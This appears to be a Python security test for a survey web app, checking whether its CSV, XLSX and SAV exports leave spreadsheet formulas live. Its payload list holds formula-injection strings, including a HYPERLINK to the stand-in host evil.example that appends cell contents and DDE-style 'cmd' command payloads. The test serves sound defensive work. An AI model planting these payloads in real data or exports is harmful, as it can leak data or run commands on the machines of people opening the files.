"""Issue 12, item 7: formula injection. Citizens' comments and an agency's name are set to
spreadsheet formulas (=, +, -, @, tab, CR); then every export officials and administrators can
download is produced the real way (the command line, and HTTP against gunicorn) and read back:
CSV cells with the csv module, workbooks with openpyxl. The figure counts the payload cells found
in the files and the live formulas among them (0 is the pass)."""
from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path

from battery.harness import DB, flask, invitations, login, psql, request, valid_answers

PAYLOADS = ["=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
AGENCY_NAME = "=HYPERLINK(\"http://evil.example/\",\"Sở Nội vụ\")"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _csv(data: bytes) -> tuple[int, int]:
    """(payload cells, live cells) of a CSV file."""
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]
    live = [c for c in cells if c.startswith(DANGEROUS)]
    marked = [c for c in cells if any(p.strip() in c for p in [*PAYLOADS, AGENCY_NAME])]
    return len(marked), len(live)


def _xlsx(data: bytes) -> tuple[int, int]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    live = [c for c in cells if c.data_type == "f"]
    marked = [c for c in cells if isinstance(c.value, str) and any(p.strip() in c.value for p in [*PAYLOADS, AGENCY_NAME])]
    return len(marked), len(live)


def _sav(path: str) -> tuple[int, int]:
    import pyreadstat

    frame, meta = pyreadstat.read_sav(path)
    texts = [v for column in frame.columns if frame[column].dtype == object for v in frame[column] if isinstance(v, str)]
    labels = [*meta.column_labels, *(v for m in meta.variable_value_labels.values() for v in m.values())]
    live = [t for t in [*texts, *labels] if t and t.startswith(DANGEROUS)]
    marked = [t for t in texts if any(p.strip() in t for p in PAYLOADS)]
    return len(marked), len(live)


def _inject(port: int) -> int:
    psql(f"UPDATE agency SET name_vi = '{AGENCY_NAME}', name_en = '{AGENCY_NAME}' WHERE code = 'SNV'", DB)
    answers = valid_answers(port)
    stored = 0
    for token, comment in zip(invitations(len(PAYLOADS) * 2), PAYLOADS * 2, strict=True):
        status, _, _ = request("POST", port, "/api/v1/responses",
                               {"invitation": token, "answers": {**answers, "comments": comment}, "language": "vi"})
        stored += status == 201
    return stored


def run(server) -> dict:
    port = server.port
    stored = _inject(port)
    results: dict[str, tuple[int, int]] = {}
    with tempfile.TemporaryDirectory() as folder:
        for fmt in ("csv", "xlsx", "sav"):
            path = str(Path(folder) / f"export.{fmt}")
            flask("responses", "export", "--wave", "demo", "--format", fmt, "--output", path)
            data = Path(path).read_bytes()
            results[f"cli {fmt}"] = {"csv": _csv, "xlsx": _xlsx}[fmt](data) if fmt != "sav" else _sav(path)
    admin = login(port, "admin@example.org")
    official = login(port, "official@example.org")
    downloads = [(admin, "/admin/waves/demo/export/csv"), (admin, "/admin/waves/demo/export/xlsx"),
                 (admin, "/admin/agencies/export.csv"), (admin, "/admin/audit/export.csv"),
                 (admin, "/admin/waves/demo/codebook.csv"), (official, "/dashboard/demo/report.xlsx"),
                 (official, "/dashboard/demo/estimates.csv")]
    failed = []
    for cookie, path in downloads:
        status, _, body = request("GET", port, path, headers={"Cookie": cookie}, timeout=120)
        if status != 200:
            failed.append(f"{path}: {status}")
            continue
        results[f"http {path}"] = _xlsx(body) if path.endswith("xlsx") else _csv(body)
    live = sum(v[1] for v in results.values())
    payload_cells = sum(v[0] for v in results.values())
    return {"figure": "formula", "comments_stored": stored, "exports": len(results),
            "payload_cells": payload_cells, "live_formulas": live,
            "per_export": {k: {"payload_cells": v[0], "live": v[1]} for k, v in results.items()},
            "errors": failed,
            "ok": not failed and live == 0 and stored == len(PAYLOADS) * 2 and payload_cells > 0}


if __name__ == "__main__":  # python -m battery.formula (on an already seeded scratch database)
    from battery import harness

    with harness.Server(workers=2) as one:
        print(json.dumps(run(one), ensure_ascii=False))
